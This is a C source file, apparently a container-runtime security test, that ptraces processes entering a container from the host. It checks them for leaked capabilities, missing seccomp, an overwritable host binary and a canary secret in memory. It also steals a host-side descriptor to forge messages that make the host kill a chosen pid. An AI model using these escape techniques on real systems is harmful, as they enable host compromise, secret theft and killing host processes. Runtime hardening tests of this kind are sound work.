/* SPDX-License-Identifier: MIT */
/*
 * tracer SECONDS [PID]: trace whoever comes in from outside, as soon as it is
 * seen, and say what may be had of it that a process of the guest's own does
 * not have: capabilities, calls that no filter looks at, the host's programs,
 * and what is in its memory (the environment of who entered). CVE-2016-9962,
 * CVE-2019-5736. With the pid of somebody on the host: have it tell the host
 * that this is who was born, and that it failed, for the host to end.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char needle[] = "HOST_TREASURE=gold";

static int open_of(int pid, const char *what)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	return open(path, O_RDONLY);
}

/* A number in its status; -1: it has ended. */
static unsigned long long status_of(int pid, const char *key, int radix)
{
	static char text[8192];
	int fd = open_of(pid, "status");
	ssize_t n = read(fd, text, sizeof(text) - 1);
	char *at;

	close(fd);
	text[n > 0 ? n : 0] = '\0';
	at = strstr(text, key);
	return at ? strtoull(at + strlen(key), NULL, radix) : -1ull;
}

static const char *program_of(int pid)
{
	static char to[256];
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	memset(to, 0, sizeof(to));
	return readlink(path, to, sizeof(to) - 1) > 0 ? to : "";
}

/* Could we write over it when nobody runs it? Not what is sealed, nor ours. */
static int is_the_hosts(int pid)
{
	int fd = open_of(pid, "exe");
	struct stat of, own;
	int is;

	if (fd < 0 || fstat(fd, &of) < 0)
		return 0;
	is = fcntl(fd, F_GET_SEALS) < 0 &&
	     (stat(program_of(pid), &own) < 0 || own.st_dev != of.st_dev ||
	      own.st_ino != of.st_ino);
	close(fd);
	return is;
}

static int holds_treasure(int pid)
{
	static char bytes[1 << 20];
	int found = 0, mem_fd = open_of(pid, "mem"),
	    maps_fd = open_of(pid, "maps");
	FILE *maps = maps_fd < 0 ? NULL : fdopen(maps_fd, "r");
	unsigned long from, to;
	char line[512];

	while (maps && fgets(line, sizeof(line), maps)) {
		ssize_t n;

		if (sscanf(line, "%lx-%lx rw", &from, &to) != 2)
			continue;
		n = pread(mem_fd, bytes,
		          to - from < sizeof(bytes) ? to - from : sizeof(bytes),
		          from);
		found |= n > 0 && memmem(bytes, n, needle, strlen(needle));
	}
	if (maps)
		fclose(maps);
	close(mem_fd);
	return found;
}

static void look(int pid)
{
	unsigned long long mine = status_of(getpid(), "CapPrm:", 16);
	unsigned long long its = status_of(pid, "CapPrm:", 16);

	if (its == -1ull)
		return;
	if (its & ~mine)
		printf("traced one with capabilities %llx\n", its & ~mine);
	if (status_of(pid, "Seccomp:", 10) <
	    status_of(getpid(), "Seccomp:", 10))
		printf("traced one without a filter\n");
	if (status_of(pid, "NoNewPrivs:", 10) <
	    status_of(getpid(), "NoNewPrivs:", 10))
		printf("traced one that may get new privileges\n");
	if (is_the_hosts(pid))
		printf("had a program of the host's\n");
	if (holds_treasure(pid))
		printf("read its memory\n");
}

static void forge(int pid, int victim)
{
	int born[] = {-1, victim}, failed[] = {0, -1};
	int pid_fd = syscall(434, pid, 0), fd = syscall(438, pid_fd, 3, 0);

	if (fd >= 0 && write(fd, born, sizeof(born)) == sizeof(born) &&
	    write(fd, failed, sizeof(failed)) == sizeof(failed))
		printf("forged\n");
	close(fd);
	close(pid_fd);
}

static void meet(int pid, int victim)
{
	char self[256];
	int status;

	/* Not its twin, which knows the treasure's name. */
	snprintf(self, sizeof(self), "%s", program_of(getpid()));
	if (!strcmp(program_of(pid), self) ||
	    ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	if (!ptrace(PTRACE_INTERRUPT, pid, 0, 0) &&
	    waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
		victim ? forge(pid, victim) : look(pid);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
	int newest = getpid() + 1; /* and its twin */
	int victim = argc > 2 ? atoi(argv[2]) : 0;

	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *e;
		int met = newest;

		while ((e = readdir(proc))) {
			int pid = atoi(e->d_name);

			if (pid <= newest)
				continue;
			met = pid;
			meet(pid, victim);
		}
		closedir(proc);
		newest = met;
	}
	return 0;
}
